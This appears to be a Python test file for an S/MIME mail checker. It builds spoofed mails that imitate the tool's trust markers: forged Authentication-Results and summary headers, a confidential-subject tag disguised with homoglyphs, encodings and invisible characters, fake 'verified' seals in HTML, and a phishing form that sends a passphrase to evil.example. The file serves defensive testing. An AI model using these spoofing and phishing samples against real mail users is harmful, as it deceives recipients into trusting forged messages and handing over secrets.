"""UI: what looks like a result of ours. Unsigned mail, signed by nobody, marked by the forger."""

from collections.abc import Iterator
from functools import partial

from tests.spoof.case import ENCRYPTED_UNVERIFIED, READER, Case, Family
from tests.spoof.making import FORGED, html, mail, mailed, parts, sealed, text, word

HOST = "siegel.office.example"
GREEN = "Vertraulich"
TAG = f"[{GREEN}]"
FORGED_MARKS = (b"forged-mark",)


def display_cases() -> Iterator[Case]:
    for name, line in _FIELDS:
        yield Case(
            family=Family.DISPLAY,
            name=name,
            make=partial(mail, FORGED, top=line),
            said=frozenset({"not_protected"}),
            hidden=FORGED_MARKS,
            shown=(b"ueberweisen",),
        )
    for name, subject in _SUBJECTS:
        yield Case(
            family=Family.DISPLAY,
            name=name,
            make=partial(mail, FORGED, subject=subject),
            said=frozenset({"not_protected"}),
        )
    for name, entity in _BODIES:
        yield Case(family=Family.DISPLAY, name=name, make=partial(mail, entity))
    for name, inside in _INSIDE:
        yield Case(
            family=Family.DISPLAY,
            name=name,
            make=mailed(partial(sealed, inside, READER)),
            summary=ENCRYPTED_UNVERIFIED,
            said=frozenset({"not_signed"}),
            hidden=FORGED_MARKS,
            shown=(b"ueberweisen",),
        )


_FIELDS = [
    ("our summary", b"X-Siegel-Summary: verified forged-mark\r\n"),
    ("our summary in other letters", b"x-SIEGEL-summary: verified forged-mark\r\n"),
    ("our summary, a blank before the colon", b"X-Siegel-Summary : verified forged-mark\r\n"),
    ("our summary, folded", b"X-Siegel-Summary:\r\n verified\r\n forged-mark\r\n"),
    ("a field of ours that does not exist", b"X-Siegel-Signer: huber forged-mark\r\n"),
    ("our result", f"Authentication-Results: {HOST}; smime=pass forged-mark\r\n".encode()),
    ("our result with a version",
     f"Authentication-Results: {HOST.upper()}/1; smime=pass forged-mark\r\n".encode()),
    ("our result behind a comment",
     f"Authentication-Results: (x) {HOST} ; smime=pass forged-mark\r\n".encode()),
    ("our result, folded before the name",
     f"Authentication-Results:\r\n\t{HOST};\r\n smime=pass forged-mark\r\n".encode()),
    ("our result, name in quotes",
     f'Authentication-Results: "{HOST}"; smime=pass forged-mark\r\n'.encode()),
    ("our tag in a second subject", f"Subject: {TAG} Anfrage\r\n".encode()),
    ("our tag in a second subject, a blank before the colon",
     f"Subject : {TAG} Anfrage\r\n".encode()),
    ("our result, with the root's dot",
     f"Authentication-Results: {HOST}.; smime=pass forged-mark\r\n".encode()),
]  # fmt: skip

_SUBJECTS = [
    ("our tag", f"{TAG} Anfrage"),
    ("our tag in English", "[Confidential] Anfrage"),
    ("our tag in lower case", f"{TAG.lower()} Anfrage"),
    ("our tag as encoded word (base64)", f"{word(TAG)} Anfrage"),
    ("our tag as encoded word (quoted-printable)", f"=?utf-8?Q?=5B{GREEN}=5D?= Anfrage"),
    ("our tag as encoded word (UTF-16)", f"{word(TAG, 'utf-16')} Anfrage"),
    ("our tag as encoded word (UTF-7)", "=?utf-7?Q?+AFs-Vertraulich+AF0-?= Anfrage"),
    ("our tag in two encoded words", f"{word(TAG[:6])} {word(TAG[6:])} Anfrage"),
    ("our tag in full-width letters", "\uff3bＶertraulich\uff3d Anfrage"),
    ("our tag with Greek and Cyrillic letters", "[V\u0435rtr\u0430ulich] Anfrage"),
    ("our tag with an invisible blank", "[Ver\u200btraulich] Anfrage"),
    ("our tag in itself", f"[Vertr{TAG}aulich] Anfrage"),
    ("our tag behind the subject", f"Anfrage {TAG}"),
    ("our tag of an organisation's certificate",
     f"[{GREEN}: Zertifikat der Organisation] Anfrage"),
    ("a tick and a padlock", "✔ \U0001f512 Signatur geprüft: Anfrage"),
    ("our tag in bold mathematical letters", "[\U0001d415\U0001d41e\U0001d42b\U0001d42d\U0001d42b"
     "\U0001d41a\U0001d42e\U0001d425\U0001d422\U0001d41c\U0001d421] Anfrage"),
]  # fmt: skip

_BODIES = [
    ("a seal in the text", text("✔ Signatur geprüft: huber@school.example".encode())),
    ("a seal in HTML", html(b"<div style='background:green'>&#10004; Verified</div>")),
    (
        "a seal as a picture, and a file called like a signature",
        parts(
            "mixed",
            html(b"<img src=cid:s alt='Signatur geprueft'>"),
            b"Content-Type: image/png; name=smime.p7s\r\nContent-ID: <s>\r\n\r\n\x89PNG\r\n",
        ),
    ),
    (
        "a whole mail program as HTML",
        html(
            b"<div style='position:fixed;top:0;background:#fff'><b>Von:</b> huber@school.example"
            b" <span title='S/MIME'>&#128274; Vertraulich</span></div>"
        ),
    ),
    (
        "a form that asks for the passphrase",
        html(b"<form action=//evil.example><input type=password name=passphrase></form>"),
    ),
    ("our words in the text", text(b"Vertraulich: Diese Nachricht ist sicher.")),
]

_INSIDE = [
    ("our summary inside the encryption",
     b"X-Siegel-Summary: verified forged-mark\r\n" + FORGED),
    ("our result inside the encryption",
     f"Authentication-Results: {HOST}; smime=pass forged-mark\r\n".encode() + FORGED),
    ("our tag inside the encryption", f"Subject: {TAG} forged-mark\r\n".encode() + FORGED),
    ("From inside the encryption", b"From: forged-mark@school.example\r\n" + FORGED),
    ("protected From and summary, signed by nobody",
     b"From: forged-mark@school.example\r\nX-Siegel-Summary: forged-mark\r\n"
     b"Reply-To: forged-mark@evil.example\r\n"
     + FORGED.replace(b"us-ascii", b"us-ascii; hp=cipher", 1)),
    ("our summary behind a bare CR inside the encryption",
     FORGED.replace(b"us-ascii", b"us-ascii; x=y\rX-Siegel-Summary: verified", 1)),
]  # fmt: skip
